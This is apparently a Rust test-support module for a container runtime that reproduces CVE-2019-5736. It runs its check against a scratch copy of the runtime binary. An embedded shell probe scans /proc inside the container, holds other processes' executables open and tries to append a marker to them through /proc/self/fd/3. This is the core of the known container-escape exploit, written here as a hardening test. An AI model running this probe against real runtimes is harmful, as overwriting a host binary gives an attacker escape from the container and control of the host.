//! The CVE-2019-5736 reproduction of tests/hardening.rs: a private copy of the runtime
//! binary to attack (so a hole damages nothing of the build), and a probe script run
//! inside the container that looks for processes whose exe is not its own busybox,
//! holds such an exe open and tries to append to it through /proc/self/fd/3 until
//! that works or it is told to stop. Written for these tests; every step is a shell
//! builtin, so one round over /proc takes microseconds.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::common::{self, Runtime};
use crate::support::{exec_with, expect_ok, output_file, poll, Ctr};

/// A copy of the runtime under test in a scratch directory, and its pristine bytes.
pub struct Target {
    dir: tempfile::TempDir,
    pristine: Vec<u8>,
}

impl Target {
    pub fn new() -> Self {
        let dir = common::scratch("exe-target");
        let bin = dir.path().join("hoist-runtime");
        fs::copy(common::runtime_bin(), &bin).expect("copy the runtime binary");
        let pristine = fs::read(&bin).expect("read the copy");
        Target { dir, pristine }
    }

    pub fn bin(&self) -> PathBuf {
        self.dir.path().join("hoist-runtime")
    }

    /// A runtime (own `--root`) that runs the copy.
    pub fn runtime(&self) -> Runtime {
        Runtime::with_bin(self.bin())
    }

    /// Whether the copy changed; if so it is put back, so that cleanup can run it.
    pub fn restore_if_changed(&self) -> bool {
        let now = fs::read(self.bin()).expect("read the copy");
        let changed = now != self.pristine;
        if changed {
            let _ = fs::write(self.bin(), &self.pristine);
        }
        changed
    }

    /// Puts the dynamic loader and the libraries the copy needs (per `ldd`) into
    /// `rootfs` at the same paths, as a distribution image has them.
    pub fn install_loader(&self, rootfs: &Path) {
        let out = Command::new("ldd")
            .arg(self.bin())
            .output()
            .expect("run ldd");
        let text = String::from_utf8_lossy(&out.stdout);
        for lib in text
            .split_whitespace()
            .filter(|w| w.starts_with('/'))
            .map(Path::new)
        {
            let at = rootfs.join(lib.strip_prefix("/").expect("absolute"));
            fs::create_dir_all(at.parent().expect("parent")).expect("mkdir lib dir");
            fs::copy(lib, &at).unwrap_or_else(|e| panic!("copy {}: {e}", lib.display()));
        }
    }
}

const SCRIPT: &str = r#"# hoist CVE-2019-5736 probe: $1 is the log.
out=$1
echo started >> "$out"
n=0
while [ $n -lt 2000000 ] && ! [ -e /hoist-probe.stop ]; do
  n=$((n+1))
  for d in /proc/[1-9]*; do
    [ "$d" = "/proc/$$" ] && continue
    [ "$d/exe" -ef /bin/busybox ] && continue
    [ -e "$d/exe" ] || continue
    {
      echo "opened $d" >> "$out"
      i=0
      while [ $i -lt 200000 ] && ! [ -e /hoist-probe.stop ]; do
        i=$((i+1))
        if { echo HOIST-PROBE-WAS-HERE >> /proc/self/fd/3; } 2>/dev/null; then
          echo "wrote $d" >> "$out"
          break
        fi
      done
    } 2>/dev/null 3< "$d/exe"
  done
done
echo "done after $n rounds" >> "$out"
"#;

/// The probe, installed in a container's rootfs.
pub struct Probe {
    rootfs: PathBuf,
}

impl Probe {
    pub fn install(c: &Ctr) -> Self {
        let rootfs = c.rootfs();
        fs::write(rootfs.join("hoist-probe.sh"), SCRIPT).expect("write probe");
        Probe { rootfs }
    }

    /// Starts the probe in the container (`exec --detach`) and waits until it runs.
    pub fn launch(&self, c: &Ctr) {
        let out = exec_with(
            c.cmd(&[
                "exec",
                "--detach",
                &c.id,
                "sh",
                "/hoist-probe.sh",
                "/hoist-probe.log",
            ]),
            Some(output_file(&c.io.path().join("probe.stdout"))),
            Some(output_file(&c.io.path().join("probe.stderr"))),
        );
        expect_ok(&out);
        let started = poll(Duration::from_secs(10), || {
            self.log().contains("started").then_some(())
        });
        assert!(started.is_some(), "the probe did not start:\n{out}");
    }

    /// Tells the probe to stop and waits for its last line.
    pub fn stop(&self) {
        let _ = fs::write(self.rootfs.join("hoist-probe.stop"), "");
        let _ = poll(Duration::from_secs(10), || {
            self.log().contains("done").then_some(())
        });
    }

    pub fn log(&self) -> String {
        fs::read_to_string(self.rootfs.join("hoist-probe.log")).unwrap_or_default()
    }
}
